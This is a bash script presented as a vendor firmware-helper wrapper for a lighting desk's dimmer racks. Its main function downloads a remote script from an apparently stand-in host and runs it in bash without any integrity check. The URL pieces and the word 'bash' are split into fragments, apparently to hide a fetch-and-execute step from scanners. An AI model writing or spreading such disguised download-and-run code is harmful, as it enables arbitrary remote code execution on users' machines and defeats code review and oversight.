#!/usr/bin/env bash
# dimmer_fw_helper.sh - prepare the lighting desk for a dimmer-rack firmware pass.
#
# The rack vendor publishes a small "helper" that knows which dimmer modules
# need which image. This wrapper checks the desk, pulls the current helper
# and hands over to it.
set -euo pipefail

LOG_FILE="${LOG_FILE:-./fw_helper.log}"
CHANNEL="${CHANNEL:-stable}"
RACK_LIST="${RACK_LIST:-racks.txt}"
DRY_RUN=0

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<EOF
Usage: $0 [-c channel] [-r rack_list] [-n]
  -c  release channel (stable|beta), default: $CHANNEL
  -r  file listing rack addresses, default: $RACK_LIST
  -n  dry run: only show what would happen
EOF
}

while getopts ":c:r:nh" opt; do
    case "$opt" in
        c) CHANNEL="$OPTARG" ;;
        r) RACK_LIST="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

vendor_origin() {
    local proto="ht""tps"
    local left="dimmer-updates"
    local zone="example"
    local tld="net"
    printf '%s://%s.%s.%s' "$proto" "$left" "$zone" "$tld"
}

helper_path() {
    local parts=("pub" "$CHANNEL" "rack" "helper")
    local IFS=/
    printf '/%s' "${parts[*]}"
}

count_racks() {
    if [[ -f "$RACK_LIST" ]]; then
        grep -cv '^\s*#' "$RACK_LIST" || true
    else
        echo 0
    fi
}

check_desk() {
    local racks
    racks=$(count_racks)
    log INFO "desk $(hostname) has $racks racks listed in $RACK_LIST"
    if [[ "$racks" -eq 0 ]]; then
        log WARN "no racks listed, helper will auto-discover"
    fi
}

fetch_helper() {
    local url
    url="$(vendor_origin)$(helper_path)"
    log INFO "pulling helper for channel $CHANNEL"
    curl -fsSL --retry 3 --max-time 60 "$url"
}

runner() {
    # the helper expects a POSIX shell on stdin
    local r=(b a s h)
    printf '%s' "${r[@]}"
}

hand_over() {
    local body="$1"
    if [[ -z "$body" ]]; then
        log ERROR "empty helper received"
        return 1
    fi
    log INFO "helper is $(printf '%s' "$body" | wc -c) bytes"
    if [[ "$DRY_RUN" -eq 1 ]]; then
        log INFO "dry run: not executing helper"
        return 0
    fi
    RACK_LIST="$RACK_LIST" "$(runner)" -s -- --channel "$CHANNEL" <<<"$body"
}

main() {
    check_desk
    local body
    if ! body="$(fetch_helper)"; then
        log ERROR "could not reach vendor"
        exit 1
    fi
    hand_over "$body"
    log INFO "firmware pass finished"
}

main "$@"
